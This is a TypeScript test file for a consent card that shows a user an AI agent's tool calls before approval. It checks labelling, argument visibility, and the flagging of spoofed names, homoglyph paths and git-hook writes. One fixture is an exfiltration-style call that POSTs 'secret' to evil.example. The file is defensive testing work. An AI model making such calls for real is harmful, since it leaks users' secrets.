// @vitest-environment jsdom
import { screen } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import type { ConsentPreview, DiffLine } from "../../app/contract/consent-preview.ts";
import type { JsonObject } from "../../app/contract/json.ts";
import { SENSITIVITIES } from "../../app/contract/scopes.ts";
import { createI18n, LOCALES, type LocaleName } from "../../i18n/index.ts";
import {
  arm,
  card,
  cardOf,
  clickOnly,
  drawCard,
  drawsCards,
  HOME,
  heading,
  highCard,
  press,
  t,
} from "./testing/drawn-card.tsx";

drawsCards();

const added = (count: number): readonly DiffLine[] =>
  Array.from({ length: count }, (_, at) => ({ kind: "added", text: `line ${at}` }));
const change = (lines: number): ConsentPreview => ({
  kind: "text_change",
  change: "create",
  size_before: null,
  size_after: 800,
  executable: false,
  hunks: [{ old_start: 1, new_start: 1, lines: added(lines) }],
});
const entry = { kind: "entry", size_bytes: 12, entries: null, overwrites: false } as const;

describe("what each kind of call shows", () => {
  const CALLS: readonly (readonly [string, JsonObject, ConsentPreview | null, string, string])[] = [
    ["read_file", { path: `${HOME}/notes.md` }, null, "read", "proj/notes.md"],
    ["list_directory", { path: HOME }, null, "list", "proj"],
    [
      "write_file",
      { path: `${HOME}/a.md`, content: "x" },
      change(82),
      "create",
      "proj/a.md · +82 −0",
    ],
    [
      "delete_file",
      { path: `${HOME}/old.md` },
      { ...entry, entry: "file" },
      "delete",
      "proj/old.md",
    ],
    [
      "move_file",
      { from: `${HOME}/a.md`, to: `${HOME}/b.md` },
      { ...entry, entry: "file" },
      "move",
      "proj/b.md",
    ],
    [
      "run_command",
      { argv: ["git", "push"], directory: HOME },
      { kind: "command", program: "/usr/bin/git", sandbox: null, network: true },
      "run",
      "git push",
    ],
    ["fetch_url", { url: "https://a.test/x" }, null, "fetch", "a.test/x"],
    [
      "fetch_url",
      { url: "https://evil.example/", method: "POST", body: "secret" },
      null,
      "send",
      "evil.example",
    ],
    ["read_clipboard", {}, null, "read_clipboard", t("target.read_clipboard")],
    ["write_clipboard", { text: "copied" }, null, "copy_text", "copied"],
    ["send_notification", { title: "Hello" }, null, "notify", "Hello"],
    ["get_location", { accuracy: "fine" }, null, "locate_exactly", t("target.locate_exactly")],
    ["somebody:else", { any: "thing" }, null, "other", "somebody:else"],
  ];

  test.each(CALLS)("%s %j", (tool_name, args, preview, kind, says) => {
    drawCard(cardOf({ tool_name, arguments: args, preview }));
    expect(screen.getByTestId("consent-target").dataset.kind).toBe(kind);
    expect(heading().textContent).toContain(says);
    expect(heading().getAttribute("aria-label")).toContain("Notes");
    expect(screen.queryAllByTestId("consent-preview")).toHaveLength(preview === null ? 0 : 1);
  });

  test("a special path is marked, and stands whole below its shorter form", () => {
    const path = `${HOME}/.git/hooks/pre-commit`;
    drawCard(cardOf({ tool_name: "write_file", arguments: { path, content: "x" } }));
    const target = screen.getByTestId("consent-target");
    expect(target.querySelector('[data-mark="git_hook"]')?.textContent).toBe(
      t("target.mark.git_hook"),
    );
    expect(target.querySelector(".target-path")?.textContent).toBe(path);
  });

  test("an ordinary path has no mark", () => {
    drawCard(cardOf());
    expect(screen.getByTestId("consent-target").querySelectorAll("[data-mark]")).toHaveLength(0);
  });

  test.each(SENSITIVITIES)("%s by its word", (sensitivity) => {
    drawCard(cardOf({ sensitivity }));
    expect(card().querySelector(`.badge-${sensitivity}`)?.textContent).toBe(
      t(`sensitivity.${sensitivity}`),
    );
  });

  test("its place is told only where others wait", () => {
    const { redraw } = drawCard(cardOf(), { position: 2, total: 3 });
    const place = t("consent.position", { position: 2, total: 3 });
    expect(card().textContent).toContain(place);
    redraw(cardOf(), { position: 1, total: 1 });
    expect(card().querySelector(".position")).toBeNull();
  });
});

describe("the arguments", () => {
  const shown = () => screen.getByTestId("consent-arguments").textContent ?? "";

  test("fold where the heading says them, and unfold whole", async () => {
    drawCard(cardOf());
    expect(shown()).not.toContain(`${HOME}/notes.md`);
    await clickOnly(screen.getByTestId("consent-all-arguments"));
    expect(shown()).toContain(`${HOME}/notes.md`);
  });

  test("stay in sight where nothing else says them", () => {
    drawCard(cardOf({ arguments: { path: `${HOME}/notes.md`, max_bytes: 12_345 } }));
    expect(shown()).toContain("12345");
  });

  test("of a tool that nobody here knows are all in sight", () => {
    drawCard(cardOf({ tool_name: "somebody:else", arguments: { first: "one", second: "two" } }));
    expect(shown()).toMatch(/first.*one.*second.*two/);
    expect(screen.queryByTestId("consent-all-arguments")).toBeNull();
  });

  test("come before a long difference, so that none hides below it", () => {
    const args = { path: `${HOME}/a.md`, content: "x", unknown: "hidden" };
    drawCard(cardOf({ tool_name: "write_file", arguments: args, preview: change(200) }));
    const [rows, preview] = ["consent-arguments", "consent-preview"].map((id) =>
      screen.getByTestId(id),
    );
    expect(rows?.compareDocumentPosition(preview as Node)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
  });
});

describe("who asks", () => {
  test("by the person's own name, and what the agent calls itself beside it", () => {
    drawCard(cardOf({ petname: "Archivist" }));
    expect(heading().getAttribute("aria-label")).toContain("Archivist");
    expect(screen.getByTestId("original-name").textContent).toContain("Notes");
  });

  test.each([
    ["turns the line round", "Sys\u202etem"],
    ["ends the line", "System\nConsentry asks:"],
    ["is partly invisible", "Sys\u200btem"],
  ])("a name that %s is drawn as what it is", (_does, agent_name) => {
    drawCard(cardOf({ agent_name }));
    const hidden = [...agent_name].find((each) => /[\u202e\n\u200b]/.test(each)) ?? "";
    expect(card().querySelector(".identity-name")?.textContent).not.toContain(hidden);
    expect(heading().getAttribute("aria-label")).not.toContain(hidden);
  });

  test("a name that holds markup or a placeholder of ours stays text", () => {
    drawCard(cardOf({ agent_name: "<b>x</b> {{tool}} $t(nav.settings)" }));
    expect(card().querySelector(".identity-name")?.textContent).toBe(
      "<b>x</b> {{tool}} $t(nav.settings)",
    );
    expect(heading().getAttribute("aria-label")).toContain("<b>x</b> {{tool}} $t(nav.settings)");
  });

  test.each([
    [{ kind: "known", fingerprint: "5b1e 07c2 9d44 a0f3 8e61" }, "5b1e 07c2 9d44 a0f3 8e61"],
    [{ kind: "unknown" }, t("agents.key_is.unknown")],
    [{ kind: "in_doubt" }, t("agents.key_is.in_doubt")],
  ] as const)("never without its key, or why there is none: %j", (key_mark, says) => {
    drawCard(cardOf({ key_mark }));
    expect(screen.getByTestId("fingerprint").textContent).toContain(says);
  });

  test("letters of two alphabets in a path are pointed out", () => {
    drawCard(cardOf({ arguments: { path: `${HOME}/\u0440assword.txt` } }));
    expect(screen.getByTestId("consent-body").textContent).toContain(
      t("consent.mixed_script", { word: "\u0440assword" }),
    );
  });
});

test("a folder that another answer opened meanwhile is neither asked for nor given again", async () => {
  const root_wanted = { suggested_path: HOME, access: "read", file: null } as const;
  const { actions, redraw } = drawCard(cardOf({ root_wanted }));
  expect(screen.getByTestId("consent-root")).toBeTruthy();
  redraw(cardOf());
  expect(screen.queryByTestId("consent-root")).toBeNull();
  expect(card().textContent).not.toContain(t("consent.opened_stays"));
  await arm();
  await press("consent-allow-once");
  expect(actions.answer.mock.calls).toEqual([["request-1", "allow_once", undefined]]);
});

test.each(Object.keys(LOCALES) as LocaleName[])("what the tool does is said in %s", (language) => {
  const { t: said } = createI18n(language);
  const { redraw } = drawCard(cardOf({ tool_name: "read_clipboard", arguments: {} }), { language });
  expect(heading().textContent).toContain(said("target.read_clipboard"));
  const own = { description_i18n_key: "x", description_fallback: "Syncs everything." };
  redraw(cardOf({ request_id: "2", tool_name: "sync", ...own }));
  expect(screen.getByTestId("consent-body").textContent).toContain("Syncs everything.");
});

test.each(Object.keys(LOCALES) as LocaleName[])("the whole card speaks %s", (language) => {
  const { t: said } = createI18n(language);
  drawCard(highCard(), { language });
  expect(card().querySelector(".badge-high")?.textContent).toBe(said("sensitivity.high"));
  expect(screen.getByTestId("consent-countdown").textContent).toContain(
    said("consent.not_started"),
  );
  expect(screen.getByTestId("consent-facts").textContent).toContain(
    said("scopes.filesystem:read.label"),
  );
});
